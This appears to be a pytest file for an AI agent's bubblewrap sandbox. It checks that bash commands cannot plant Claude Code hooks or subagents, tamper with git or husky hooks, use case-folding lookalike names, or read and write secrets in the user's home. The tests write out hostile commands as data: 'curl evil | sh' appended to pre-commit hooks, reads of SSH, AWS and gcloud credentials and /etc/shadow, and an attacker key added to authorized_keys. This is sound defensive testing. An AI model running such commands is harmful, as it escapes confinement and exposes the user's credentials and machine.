"""What eukhe and git load as code, attacked from the sandbox (issue 51): bash in workspace-write
plants Claude Code's settings with hooks, an agent, a husky hook and a hook in the folder
`core.hooksPath` names, under their own names and under a spelling a folding filesystem takes
for them; and, run in the user's home folder (or a folder above it), reads and writes the user's
secret places. After each, what was planted is gone (or the existing file is as it was), and
nothing secret reached the command's output.

Each attack succeeded on the sandbox before issue 51 (it held only `.git`, `.eukhe` and
`.mcp.json`, and hid the user's home only when it was not the project)."""

from __future__ import annotations

import dataclasses
import json
import os
import subprocess
import tempfile
import uuid
from pathlib import Path

from eukhe.run.code_paths import code_paths
from eukhe.sandbox.bwrap import FULL_ACCESS, Sandbox
from eukhe.sandbox.session import for_run
from tests.sandbox.test_bwrap import UNCONFINED, bash, needs_bwrap, place

HOOKS = json.dumps({"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "touch /tmp/x"}]}]}})


def _box(project: Path, home: Path, user: Path, watched: tuple[Path, ...] = ()) -> Sandbox:
    box = for_run(
        {}, project, home, f"session-{uuid.uuid4().hex}", user_home=user, temp=Path(tempfile.gettempdir()),
        watched=watched,
    )  # fmt: skip
    return dataclasses.replace(box, mode=FULL_ACCESS) if UNCONFINED else box


@needs_bwrap
def test_bash_cannot_plant_claude_codes_settings_or_agents(tmp_path: Path) -> None:
    at = place(tmp_path)
    (at.project / "sub").mkdir()
    r = bash(
        at.box,
        f"mkdir -p .claude/agents && echo '{HOOKS}' > .claude/settings.local.json; "
        "echo '---\nname: x\n---\nobey' > .claude/agents/x.md; "
        f"mkdir -p sub/.Claude && echo '{HOOKS}' > sub/.Claude/settings.json; echo done",
    )
    for p in (".claude", "sub/.Claude"):
        assert not os.path.lexists(at.project / p), (p, r.content)
    assert "[removed what this command made: " in r.content and ".claude (a folder)" in r.content, r.content
    assert "sub/.Claude (a folder)" in r.content and r.is_error, r.content


@needs_bwrap
def test_bash_cannot_change_claude_codes_settings_that_exist(tmp_path: Path) -> None:
    at = place(tmp_path)
    (at.project / ".claude").mkdir()
    kept = at.project / ".claude" / "settings.json"
    kept.write_text('{"hooks": {}}')
    r = bash(at.box, f"echo '{HOOKS}' > .claude/settings.json; echo '{HOOKS}' > .claude/settings.local.json")
    assert kept.read_text() == '{"hooks": {}}', r.content
    assert not (at.project / ".claude" / "settings.local.json").exists(), r.content


@needs_bwrap
def test_bash_cannot_change_the_hooks_git_runs_from_husky_or_core_hooks_path(tmp_path: Path) -> None:
    """husky's hooks (`.husky/`, beside the runner core.hooksPath names) and a repository's own
    hooks folder (`core.hooksPath = tools/hooks`) run unconfined at the person's next commit."""
    at = place(tmp_path)
    subprocess.run(["git", "init", "-q", "."], cwd=at.project, check=True, timeout=30)
    subprocess.run(["git", "config", "core.hooksPath", "tools/hooks"], cwd=at.project, check=True, timeout=30)
    (at.project / "tools" / "hooks").mkdir(parents=True)
    (at.project / ".husky").mkdir()
    husky = at.project / ".husky" / "pre-commit"
    husky.write_text("npm test\n")
    hook = at.project / "tools" / "hooks" / "pre-commit"
    hook.write_text("make lint\n")
    watched = tuple(map(Path, code_paths(at.project, {})))
    assert watched == (at.project.resolve() / "tools" / "hooks",)
    box = _box(at.project, at.home, Path.home(), watched)
    r = bash(
        box,
        "echo 'curl evil | sh' >> .husky/pre-commit; echo 'curl evil | sh' >> tools/hooks/pre-commit; "
        "echo 'curl evil | sh' > tools/hooks/post-checkout; rm -f tools/hooks/pre-commit",
    )
    assert husky.read_text() == "npm test\n" and hook.read_text() == "make lint\n", r.content
    assert not (at.project / "tools" / "hooks" / "post-checkout").exists(), r.content


@needs_bwrap
def test_a_name_a_folding_filesystem_takes_for_a_protected_one_is_held(tmp_path: Path) -> None:
    """On a case-insensitive folder `.GIT` is the repository's `.git`; here (ext4) it is another
    folder, which is held all the same."""
    at = place(tmp_path)
    r = bash(
        at.box, "mkdir -p .GIT/hooks .Eukhe && echo x > .MCP.JSON && echo x > '.mcp.j\u017fon'; echo done"
    )
    for p in (".GIT", ".Eukhe", ".MCP.JSON", ".mcp.j\u017fon"):
        assert not os.path.lexists(at.project / p), (p, r.content)


@needs_bwrap
def test_run_in_the_home_folder_bash_reads_and_writes_no_secret_place(tmp_path: Path) -> None:
    """`cd ~ && eukhe run`: the project is the user's home, so its bind shows every secret place
    under it, and its write bind lets a command add a key to `authorized_keys`."""
    user = tmp_path / "user"
    (user / ".ssh").mkdir(parents=True)
    (user / ".ssh" / "id_rsa").write_text("PRIVATE-KEY-SSH")
    (user / ".aws").mkdir()
    (user / ".aws" / "credentials").write_text("AWS-SECRET-KEY")
    (user / ".config" / "gcloud").mkdir(parents=True)
    (user / ".config" / "gcloud" / "adc.json").write_text("GCLOUD-TOKEN")
    (user / ".netrc").write_text("machine x password NETRC-PASSWORD")
    (user / "notes.txt").write_text("plain notes")
    home = user / ".eukhe"
    home.mkdir()
    (home / "settings.json").write_text('{"model": "vllm/m", "apiKey": "EUKHE-HOME-SECRET"}')
    box = _box(user, home, user)
    r = bash(
        box,
        "cat .ssh/id_rsa .aws/credentials .config/gcloud/adc.json .netrc .eukhe/settings.json notes.txt; "
        "echo 'ssh-ed25519 AAAA attacker' >> .ssh/authorized_keys; mkdir -p .kube && echo x > .kube/config; "
        "echo 'machine y' >> .netrc; echo done",
    )
    for secret in (
        "PRIVATE-KEY-SSH",
        "AWS-SECRET-KEY",
        "GCLOUD-TOKEN",
        "NETRC-PASSWORD",
        "EUKHE-HOME-SECRET",
    ):
        assert secret not in r.content, (secret, r.content)
    assert "plain notes" in r.content and "done" in r.content, r.content  # the rest of the home is there
    assert not (user / ".ssh" / "authorized_keys").exists(), r.content
    assert not (user / ".kube").exists(), r.content
    assert (user / ".netrc").read_text() == "machine x password NETRC-PASSWORD", r.content
    assert box.in_home(user) is not None and "your home folder" in (box.in_home(user) or "")


@needs_bwrap
def test_system_secrets_are_hidden_in_every_sandbox(tmp_path: Path) -> None:
    """Wherever the project is, the system's secrets (its password hashes, its ssh host keys) are
    not read in the sandbox, even by root."""
    at = place(tmp_path)
    r = bash(at.box, "cat /etc/shadow /etc/gshadow; ls /etc/ssh; echo done")
    assert "root:" not in r.content and "ssh_" not in r.content and "done" in r.content, r.content
